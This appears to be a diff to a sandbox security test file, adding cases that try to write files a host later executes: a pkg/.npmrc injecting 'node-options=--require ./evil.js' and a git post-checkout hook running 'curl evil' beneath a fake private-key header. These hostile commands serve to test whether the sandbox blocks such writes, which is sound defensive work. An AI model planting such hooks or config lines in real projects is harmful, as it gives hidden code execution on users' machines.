@@ -181,6 +181,13 @@ SURFACE = {
     "deep/.envrc": "mkdir -p deep && echo evil > deep/.envrc",
     # sub/.envrc exists and is read-only inside: renaming its parent sidesteps that.
     "sub/.envrc": "mv sub sub-old && mkdir sub && echo evil > sub/.envrc",
+    # Named like a secret (.npmrc is masked by default), or shaped like one:
+    # still host-executed.
+    "pkg/.npmrc": "mkdir -p pkg && echo 'node-options=--require ./evil.js' > pkg/.npmrc",
+    "lib/.git/hooks/post-checkout": (
+        "mkdir -p lib/.git/hooks && printf '#!/bin/sh\\n# -----BEGIN PRIVATE KEY-----\\ncurl evil\\n' "
+        "> lib/.git/hooks/post-checkout"
+    ),
 }
 
 
